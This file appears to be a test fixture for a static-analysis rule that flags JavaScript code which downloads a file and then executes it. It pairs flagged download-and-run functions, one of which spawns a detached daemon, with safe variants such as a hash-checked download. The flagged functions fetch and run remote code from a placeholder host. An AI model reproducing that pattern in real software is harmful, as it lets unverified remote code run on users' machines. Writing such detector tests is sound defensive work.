const fs = require("node:fs");
const https = require("node:https");
const crypto = require("node:crypto");
const childProcess = require("node:child_process");

const ADDRESS = "https://tools.example.invalid/helper";

async function start(path) {
  const answer = await fetch(ADDRESS);
  fs.writeFileSync(path, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
  // ruleid: execution/downloaded-file-executed-javascript
  childProcess.spawn(path, ["--daemon"], { detached: true });
}

function startStreamed(path) {
  const file = fs.createWriteStream(path);
  https.get(ADDRESS, (answer) => answer.pipe(file));
  // ruleid: execution/downloaded-file-executed-javascript
  file.on("finish", () => childProcess.execFile(path));
}

async function startScript(path) {
  const answer = await fetch(ADDRESS);
  fs.writeFileSync(path, await answer.text());
  // ruleid: execution/downloaded-file-executed-javascript
  childProcess.spawn("node", [path]);
}

async function verified(path, expected) {
  const answer = await fetch(ADDRESS);
  const data = Buffer.from(await answer.arrayBuffer());
  const digest = crypto.createHash("sha256").update(data).digest("hex");
  if (digest !== expected) {
    throw new Error("refused");
  }
  fs.writeFileSync(path, data);
  // ok: execution/downloaded-file-executed-javascript
  childProcess.spawn(path, []);
}

async function save(path) {
  const answer = await fetch(ADDRESS);
  // ok: execution/downloaded-file-executed-javascript
  fs.writeFileSync(path, await answer.text());
}

function installed(path) {
  // ok: execution/downloaded-file-executed-javascript
  childProcess.spawn(path, ["--daemon"]);
}

async function other(path) {
  const answer = await fetch(ADDRESS);
  fs.writeFileSync(path, await answer.text());
  // ok: execution/downloaded-file-executed-javascript
  childProcess.execFileSync("sync", []);
}

module.exports = { start, startStreamed, startScript, verified, save, installed, other };
